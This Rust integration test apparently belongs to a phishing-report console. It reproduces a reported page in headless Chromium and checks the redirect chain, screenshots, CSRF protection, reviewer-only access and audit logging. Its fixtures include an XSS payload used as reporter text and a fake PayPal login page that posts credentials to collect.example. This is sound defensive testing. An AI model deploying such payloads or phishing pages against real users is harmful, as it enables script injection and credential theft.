//! Reproductions from the console over real HTTP, with real Chromium against a loopback
//! page: the form on a report group, the result page with its chain and comparison (the
//! reporter's pack version, as the development server deployed it), the screenshot route
//! behind the Triage permission, and reporter text kept inert.

mod support;

use axum::response::Html;
use axum::routing::get;
use ferretwatch_store::TokenRole;
use support::console::{make_account, Browser};
use support::spawn_with;

const HOSTILE: &str = "\"><script>alert(1)</script><img src=x onerror=alert(2)>";

const LOGIN: &str = r#"<!doctype html><html><head><title>PayPal - Log in</title></head>
<body><h1>PayPal</h1><p>Your account has been limited. Verify your identity.</p>
<form action="https://collect.example/p.php" method="post">
<input type="email" name="email"><input type="password" name="password"><button>Log In</button>
</form></body></html>"#;

/// A loopback page: `/start` redirects to `/login`.
async fn test_page() -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let app = axum::Router::new()
        .route("/start", get(|| async { axum::response::Redirect::to("/login") }))
        .route("/login", get(|| async { Html(LOGIN) }));
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    addr
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reviewer_reproduces_a_reported_page_and_sees_its_chain_screenshot_and_findings_by_pack_version() {
    let page = test_page().await;
    let app = spawn_with(
        |s| {
            s.console.reproduce_allow_loopback = true;
            s.console.reproduce_seconds = 15;
        },
        None,
    )
    .await;
    // The one pack the development server deployed.
    let origin = app.data.join("origin");
    let version = tokio::task::spawn_blocking(move || {
        let origin = ferretwatch_pack_publisher::origin::Origin::open(origin.to_str().unwrap()).unwrap();
        ferretwatch_pack_publisher::publish::current_version(&origin).unwrap().unwrap().to_string()
    })
    .await
    .unwrap();

    let token = app.install_token().await;
    let mut body = support::report_body(&format!("http://{page}/start"));
    body["pack_version"] = version.clone().into();
    body["reason"] = "other".into();
    body["reason_text"] = HOSTILE.into();
    let sent = app.post_report(&token, &body).await;
    assert!(sent.status().is_success(), "{}", sent.status());

    let reviewer = make_account(&app, "rev@example.test", TokenRole::Reviewer, None).await;
    let mut r = Browser::new(&app);
    r.sign_in(&reviewer, 0).await;
    let inbox = r.get("/admin/reports").await;
    let hash =
        inbox.body.split("href=\"/admin/reports/").nth(1).expect("a group").split('"').next().unwrap().to_owned();
    let detail = r.get(&format!("/admin/reports/{hash}")).await;
    assert!(detail.body.contains(&format!("action=\"/admin/reports/{hash}/reproduce\"")), "the form is offered");

    let csrf = detail.csrf();
    // Without the CSRF token, nothing runs.
    let forged = r.post(&format!("/admin/reports/{hash}/reproduce"), &[("csrf", "nope")]).await;
    assert_eq!(forged.status, 403);

    let started = std::time::Instant::now();
    let ran = r.post(&format!("/admin/reports/{hash}/reproduce"), &[("csrf", &csrf)]).await;
    println!("console reproduction: {} ms", started.elapsed().as_millis());
    assert_eq!(ran.status, 303, "{}", ran.body);
    let location = ran.location().expect("a redirect to the result").to_owned();
    assert!(location.starts_with("/admin/reproductions/"), "{location}");

    let result = r.get(&location).await;
    assert_eq!(result.status, 200, "{}", result.body);
    let body = &result.body;
    assert!(body.contains(&format!("http://{page}/start")) && body.contains(&format!("http://{page}/login")), "{body}");
    assert!(body.contains("<td>303</td>") && body.contains("<td>200</td>"), "the chain with its statuses: {body}");
    assert!(body.contains(&format!("<span class=\"pack-version\">{version}</span>")), "the reporter's version: {body}");
    assert!(body.contains("id=\"dom-sha256\">") && body.contains(&format!("{location}/screenshot.png")));
    assert!(!body.contains("<script>alert") && !body.contains("<img src=x"), "reporter text is inert: {body}");
    assert!(body.contains("&#60;script&#62;alert(1)"), "the reason is shown, escaped: {body}");

    let shot = r.get(&format!("{location}/screenshot.png")).await;
    assert_eq!(shot.status, 200);
    assert_eq!(shot.headers.get("content-type").unwrap(), "image/png");
    assert!(shot.headers.get("content-security-policy").unwrap().to_str().unwrap().contains("img-src 'self'"));

    // A viewer may not see it; signed out, the browser is sent to sign in.
    let viewer = make_account(&app, "viewer@example.test", TokenRole::Viewer, None).await;
    let mut v = Browser::new(&app);
    v.sign_in(&viewer, 0).await;
    assert_eq!(v.get(&format!("{location}/screenshot.png")).await.status, 403);
    assert_eq!(v.get(&location).await.status, 403);
    let mut anonymous = Browser::new(&app);
    assert_eq!(anonymous.get(&format!("{location}/screenshot.png")).await.location(), Some("/admin/login"));

    // The audit log names the reproduction.
    let entries = app.state.store.list_audit(&ferretwatch_store::AuditFilter::default(), 50).await.unwrap();
    let id = location.rsplit('/').next().unwrap();
    assert!(entries.iter().any(|e| e.action == "report.reproduced" && e.details.contains(id)), "audited");
    // The artifacts are where the layout says.
    let dir = app.data.join("artifacts").join("reproductions").join(id);
    for file in ["summary.json", "screenshot.png", "dom.html"] {
        assert!(dir.join(file).is_file(), "{file}");
    }
}
